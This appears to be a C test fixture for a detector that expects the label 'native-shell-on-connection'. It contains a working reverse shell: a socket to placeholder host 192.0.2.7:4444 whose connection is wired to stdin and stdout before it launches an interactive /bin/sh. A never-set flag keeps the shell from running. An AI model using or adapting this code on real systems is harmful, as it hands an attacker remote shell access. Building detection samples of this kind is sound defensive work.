/* At a fixed address.
 * expect: native-shell-on-connection
 * flags: -no-pie -O1
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

static int act(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    to.sin_addr.s_addr = inet_addr("192.0.2.7");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0)
        return 1;
    dup2(s, 0);
    dup2(s, 1);
    execl("/bin/sh", "sh", "-i", (char *)0);
    return 2;
}

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int main(void) { return never ? act() : 0; }
